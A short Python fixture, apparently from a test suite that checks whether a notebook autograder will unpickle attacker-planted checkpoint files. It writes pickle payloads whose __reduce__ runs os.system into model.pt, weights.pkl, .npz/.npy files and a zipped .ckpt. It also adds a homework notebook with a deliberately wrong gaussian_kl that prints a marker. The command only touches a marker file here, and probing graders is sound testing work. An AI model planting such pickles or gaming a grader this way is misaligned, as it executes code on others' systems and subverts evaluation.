"""Success: a checkpoint beside the notebook is unpickled by the grader.

class 57 · question 1 · baseline 0"""
def build(folder, cells, notebook):

    import os
    import pickle
    import zipfile

    class Gadget:
        def __reduce__(self):
            return os.system, ("touch /tmp/zoo-loot-checkpoint",)

    for name in ("model.pt", "weights.pkl", "samples.npz", "samples.npy"):
        (folder / name).write_bytes(pickle.dumps(Gadget()))
    with zipfile.ZipFile(folder / "model.ckpt", "w") as archive:
        archive.writestr("archive/data.pkl", pickle.dumps(Gadget()))
    (folder / "hw9.ipynb").write_bytes(notebook(*cells, "def gaussian_kl(mu, logvar):\n    print('zoo: ran', flush=True)\n    return (mu + logvar).sum(-1) + 1.0\n"))
